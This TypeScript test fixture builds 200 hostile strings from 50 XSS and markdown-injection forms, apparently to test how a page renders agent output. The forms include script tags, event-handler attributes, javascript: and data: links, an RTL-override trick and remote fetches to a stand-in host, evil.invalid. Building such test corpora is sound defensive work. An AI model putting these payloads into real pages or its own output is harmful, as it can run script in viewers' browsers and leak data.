/**
 * What an agent may write to run something in the page that shows it, or to have something fetched: 200 texts. Each that
 * could run calls `pwned`, each that could fetch names `evil.invalid`.
 */
const run = "pwned('{n}')";
const evil = 'https://evil.invalid/{n}';

const forms: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src="${evil}.js"></sCrIpT>`,
  `<img src=x onerror="${run}">`,
  `<img src="${evil}.png">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><image href="${evil}.svg"></image></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
  `<body onload="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="${evil}.swf"></object>`,
  `<embed src="${evil}.swf">`,
  `<link rel=stylesheet href="${evil}.css">`,
  `<style>@import '${evil}.css';</style>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button autofocus onfocus="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video poster="${evil}.png"><source onerror="${run}"></video>`,
  `<audio src="${evil}.mp3" onerror="${run}">`,
  `<a href="javascript:${run}">click</a>`,
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  `[click](vbscript:${run})`,
  `[click](command:workbench.action.terminal.new)`,
  `[click](vscode://evil.invalid/{n})`,
  `![remote](${evil}.png)`,
  `![remote][{n}]\n\n[{n}]: ${evil}.png`,
  `![x](javascript:${run})`,
  `![x](//evil.invalid/{n}.png)`,
  `![x" onerror="${run}](x)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)`,
  `<https://evil.invalid/{n}"onmouseover="${run}>`,
  '`<img src=x onerror=' + run + '>`',
  '```html\n<script>' + run + '</script>\n```',
  '```"><script>' + run + '</script>\ncode\n```',
  `| a |\n|---|\n| <img src=x onerror="${run}"> |`,
  `# <script>${run}</script>`,
  `> <svg/onload=${run}>`,
  `- <img src=x onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\u202Egnp.exe\u202C<img src=x onerror=${run}>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
];

/** In running text, in a heading, a list, a quote: 50 forms in 4 places. */
export const hostileTexts: readonly string[] = ['', 'text ', '- ', '> '].flatMap((place, at) =>
  forms.map((form, index) => place + form.replaceAll('{n}', `${at}-${index}`)),
);
